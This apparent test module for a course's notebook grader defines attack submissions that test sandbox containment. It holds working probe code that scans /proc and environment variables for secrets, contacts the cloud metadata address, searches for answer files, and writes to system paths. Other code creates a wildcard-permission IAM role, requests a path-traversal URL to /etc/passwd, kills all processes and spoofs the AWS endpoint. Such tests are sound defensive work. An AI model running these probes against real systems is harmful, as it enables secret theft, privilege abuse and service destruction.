"""Looking around and reaching out, from the kernel, from a Lambda handler and from a Glue job; and the cloud's own doors."""

from __future__ import annotations

from tests.grading.attacks_on_cells import ALL, NOTHING, S3
from tests.grading.submissions import Attack

BREACH = "BREACH:"
CANARY = "canary-of-the-instructor"

# Tries everything, and says what it reached. The test fills in a port of the machine, files of the instructor, and the repository.
PROBE = r"""
def probe(port, secrets, repository, canary):
    import os, re, socket, urllib.request
    found = []
    def attempt(name, action):
        try:
            if action() is not False:
                found.append(name)
        except BaseException:
            pass
    for host, number in (("127.0.0.1", port), ("8.8.8.8", 53), ("1.1.1.1", 443), ("169.254.169.254", 80), ("10.0.0.1", 80)):
        attempt("network " + host, lambda: socket.create_connection((host, number), 2).close())
    attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
    for name, value in os.environ.items():
        attempt("environment " + name, lambda: canary in value)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for part in ("environ", "cmdline"):
                attempt("process " + pid, lambda: canary.encode() in open("/proc/%s/%s" % (pid, part), "rb").read())
            attempt("root of " + pid, lambda: "cloud.db" in os.listdir("/proc/%s/cwd" % pid))
    for path in secrets:
        attempt("file " + path, lambda: open(path).read() and True)
    ours = r"/(checks/step_\d|grading/|notebooks/source|\.git/|own/|references\.json|job\.json|results/)"
    wanted = re.compile(ours + r"|/state/(cloud|logs|trail|metrics)\.db|/moto\.json")
    for top in (repository, "/tmp", "/root", "/home", "/var", "/opt", "/srv", "/mnt"):
        for folder, folders, files in os.walk(top):
            if "site-packages/" in folder or "/.pyenv/" in folder:
                folders[:] = []
                continue
            for name in files:
                path = folder + "/" + name
                if wanted.search(path) and os.path.getsize(path) > 0:
                    found.append("sees " + path)
    for place in ("/", "/dev", "/usr", "/etc", "/run", "/var", repository, repository + "/labkit", repository + "/data"):
        attempt("writes to " + place, lambda: open(place + "/planted", "w").close())
    return found
"""
_LOOK = PROBE + "\nimport json\nprint('BREACH:' + json.dumps(probe(*{arguments!r})))\n"

_HANDLER = PROBE + "\ndef lambda_handler(event, context):\n    return probe(*event)\n"
_ROLE = """
import boto3, io, json, time, zipfile
services = ["lambda.amazonaws.com", "glue.amazonaws.com"]
assume = {"Effect": "Allow", "Principal": {"Service": services}, "Action": "sts:AssumeRole"}
trust = {"Version": "2012-10-17", "Statement": [assume]}
all_of_it = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
iam, glue = boto3.client("iam"), boto3.client("glue")
role = iam.create_role(RoleName="spy", AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"]
iam.put_role_policy(RoleName="spy", PolicyName="all", PolicyDocument=json.dumps(all_of_it))
"""
_FUNCTION = """
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w") as file:
    file.writestr("spy.py", {code!r})
functions = boto3.client("lambda")
code = {{"ZipFile": packed.getvalue()}}
what = {{"FunctionName": "spy", "Role": role, "Runtime": "python3.12", "Handler": "spy.lambda_handler"}}
functions.create_function(**what, Timeout=60, Code=code)
functions.get_waiter("function_active_v2").wait(FunctionName="spy")
reply = functions.invoke(FunctionName="spy", Payload=json.dumps({arguments!r}))["Payload"]
print("BREACH:" + reply.read().decode())
"""
_JOB = """
bucket = lab.names.raw_bucket
boto3.client("s3").put_object(Bucket=bucket, Key="spy.py", Body={code!r}.replace("THE BUCKET", bucket))
command = {{"Name": "glueetl", "ScriptLocation": "s3://" + bucket + "/spy.py", "PythonVersion": "3"}}
glue.create_job(Name="spy", Role=role, Command=command, GlueVersion="5.1", WorkerType="G.1X", NumberOfWorkers=2)
run = glue.start_job_run(JobName="spy")["JobRunId"]
state = "STARTING"
while state in ("STARTING", "RUNNING", "STOPPING", "WAITING"):
    time.sleep(0.5)
    job_run = glue.get_job_run(JobName="spy", RunId=run)["JobRun"]
    state = job_run["JobRunState"]
print(job_run.get("ErrorMessage", ""))
print("BREACH:" + boto3.client("s3").get_object(Bucket=bucket, Key="spied")["Body"].read().decode())
"""
_JOB_SCRIPT = (
    PROBE
    + """
import boto3, json
found = probe(*ARGUMENTS)
boto3.client("s3").put_object(Bucket="THE BUCKET", Key="spied", Body=json.dumps(found))
"""
)
_DOORS = """
import json, os, urllib.request
base = os.environ["AWS_ENDPOINT_URL"]
for method in ("GET", "POST", "PUT", "DELETE"):
    for path in ("/_labkit/reset", "/_labkit/state", "/_labkit/snapshot", "/_labkit/shutdown", "/_labkit/engines", "/_labkit/trail",
                 "/moto-api/reset", "/moto-api/data.json", "/moto-api/seed?a=1", "/_localstack/health", "/../../etc/passwd"):
        try:
            with urllib.request.urlopen(urllib.request.Request(base + path, method=method), timeout=5) as answer:
                print(method, path, answer.status, answer.read()[:60])
        except Exception as error:
            print(method, path, type(error).__name__)
"""
_KILL_CLOUD = """
def lambda_handler(event, context):
    import os, signal
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
"""
_TAKE_OVER = """
import os, threading, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit
class Fake(BaseHTTPRequestHandler):
    def answer(self):
        body = b"<ListAllMyBucketsResult><Buckets/></ListAllMyBucketsResult>"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = do_PUT = do_POST = do_HEAD = do_DELETE = answer
def wait():
    while True:
        try:
            ThreadingHTTPServer(("127.0.0.1", urlsplit(os.environ["AWS_ENDPOINT_URL"]).port), Fake).serve_forever()
        except OSError:
            time.sleep(0.05)
threading.Thread(target=wait, daemon=True).start()
try:
    functions.invoke(FunctionName="spy", Payload="[]")
except Exception as error:
    print(type(error).__name__)
time.sleep(1)
"""


def build_spies(port: int, secrets: list[str], repository: str) -> tuple[Attack, ...]:
    """Notebooks that look around from everywhere; each prints a line BREACH:[…]."""
    arguments = [port, secrets, repository, CANARY]
    function = _ROLE + _FUNCTION.format(code=_HANDLER, arguments=arguments)
    job = _ROLE + _JOB.format(code=_JOB_SCRIPT.replace("ARGUMENTS", repr(arguments)))
    return (
        Attack("spy_in_kernel", S3, NOTHING, cells={"t1-1-answer": _LOOK.replace("{arguments!r}", repr(arguments))}),
        Attack("spy_in_function", S3, NOTHING, cells={"t1-1-answer": function}),
        Attack("spy_in_job", S3, NOTHING, cells={"t1-1-answer": job}),
    )


def _deploy(code: str) -> str:
    return _ROLE + _FUNCTION.format(code=code, arguments=[]).split("reply = ")[0]


ATTACKS = (
    Attack("doors_of_the_cloud", S3, {**ALL, "1.1": 0}, solved=True, cells={"t1-1-answer": _DOORS}),
    Attack("cloud_killed", S3, NOTHING, cells={"t1-1-answer": _deploy(_KILL_CLOUD) + _TAKE_OVER}),
)
